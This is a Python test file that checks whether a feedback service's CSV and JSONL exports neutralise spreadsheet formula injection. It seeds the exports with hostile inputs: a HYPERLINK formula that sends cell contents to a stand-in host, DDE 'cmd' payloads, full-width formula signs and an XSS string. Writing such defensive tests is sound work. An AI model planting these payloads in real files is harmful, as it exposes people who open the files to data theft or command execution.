"""S13: what people write is text in every export, also where a spreadsheet would run it."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator, Mapping

import pytest
import pytest_asyncio

from feedback.lake.writing import cell
from tests.abuse import sample_company

parts, enter = sample_company.parts, sample_company.enter
Enter = sample_company.Enter
ALICE, FATIMA = "alice@cryodyne.example", "fatima@cryodyne.example"
LINK = '=HYPERLINK("http://other.example/?d="&A1,"look")'
PAYLOADS = (
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "＝1+1",
    f"fine;{LINK}",
    f"fine\t{LINK}",
    f'fine"\n{LINK}',
    "fine\n=1+1\nand nothing of note",
    'fine;"=1+1;"and nothing of note',
    f",{LINK}",
    '<img src=x onerror=alert(1)>"><script>alert(1)</script>',
)
RUN = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


Asked = Mapping[str, str]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def asked(enter: Enter) -> Asked:
    """Ask and comment with every payload; gives the turn of each."""
    alice, turns = enter(ALICE), {}
    for payload in PAYLOADS:
        turn = (
            await alice.post(
                "/api/v1/assistants/medical-information/ask",
                json={"question": payload + " Qavoretin"},
            )
        ).json()
        reply = await alice.put(
            f"/api/v1/turns/{turn['turn_id']}/reaction",
            json={
                "emoji": "🙁",
                "reasons": ["Wrong"],
                "comment": payload,
                "suggested_answer": payload,
            },
        )
        assert reply.status_code == 200
        turns[payload] = turn["turn_id"]
    return turns


async def exported(enter: Enter, dataset: str, form: str) -> tuple[str, str]:
    """Export it; gives the file and its kind."""
    file = await enter(FATIMA).get(f"/api/v1/export/{dataset}", params={"format": form})
    assert "attachment" in file.headers["content-disposition"]
    return file.content.decode("utf-8-sig"), file.headers["content-type"]


def as_written(text: str) -> Iterator[str]:
    """Each row of a CSV file, as it stands there."""
    lines = list(io.StringIO(text, newline=""))
    reader = csv.reader(lines)
    begins = 0
    for _ in reader:
        yield "".join(lines[begins : reader.line_num])
        begins = reader.line_num


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("dataset", ["turns", "reactions", "transcripts"])
async def test_s13_no_cell_of_a_spreadsheet_begins_with_what_it_would_run(
    enter: Enter, asked: Asked, dataset: str
) -> None:
    text, kind = await exported(enter, dataset, "csv")

    assert kind.startswith("text/csv")
    head, *rows = as_written(text)
    assert len(rows) >= len(PAYLOADS)
    for payload, turn in asked.items():
        # Each alone, since a quotation mark of one may hide another from whoever cuts elsewhere.
        (row,) = [row for row in rows if turn in row]
        cells = next(csv.reader(io.StringIO(row, newline="")))
        assert [value for value in cells if payload.strip()[-12:] in value]
        assert [value for value in cells if value.startswith(RUN)] == []
        # A spreadsheet of another language cuts the same file at other signs, amid texts.
        for separator in ";\t":
            cut = csv.reader(io.StringIO(head + row, newline=""), delimiter=separator)
            assert [value for row in cut for value in row if value.startswith("=")] == []


@pytest.mark.asyncio(loop_scope="module")
async def test_s13_json_lines_hold_what_was_written_and_nothing_else(
    enter: Enter, asked: Asked
) -> None:
    text, _ = await exported(enter, "reactions", "jsonl")

    rows = [json.loads(line) for line in text.splitlines()]
    assert {row["turn_id"]: row["comment"] for row in rows} == {
        turn: payload.strip() for payload, turn in asked.items()
    }
    assert len(rows) == len(PAYLOADS)


@pytest.mark.parametrize("sign", RUN)
def test_s13_every_sign_that_begins_a_formula_is_neutralised(sign: str) -> None:
    assert cell(f"{sign}1+1") == f"'{sign}1+1"
    for cut in ("; ", "\n", "\r\n", "\t", ';"'):
        assert cell(f"a{cut}{sign}1+1") == f"a{cut}'{sign}1+1" or sign in "\t\r"


@pytest.mark.parametrize("line", ["- cmd|' /C calc'!A0", "-A1", "- HYPERLINK(A1)", "- 'x'#$a.A1"])
def test_s13_a_line_that_could_call_something_is_no_item_of_a_list(line: str) -> None:
    assert cell(f"Fine:\n{line}\nfine") == f"Fine:\n'{line}\nfine"


@pytest.mark.parametrize("sign", ["\t", "\n", "\r\n", "; ", ';"', "\n- a", "\n=1"])
def test_s13_a_text_of_nothing_but_places_to_cut_at_keeps_nobody_waiting(sign: str) -> None:
    # Where the work grows with the square of the length, this takes hours and not a second.
    assert cell(f"a{sign * 300_000}").startswith("a")


@pytest.mark.parametrize(
    "honest", ["All good ;-)", "a; b", "Two:\n- one\n- two", "5 - 3", "30 mg/day", "it's fine"]
)
def test_s13_honest_text_stays_as_it_is(honest: str) -> None:
    assert cell(honest) == honest
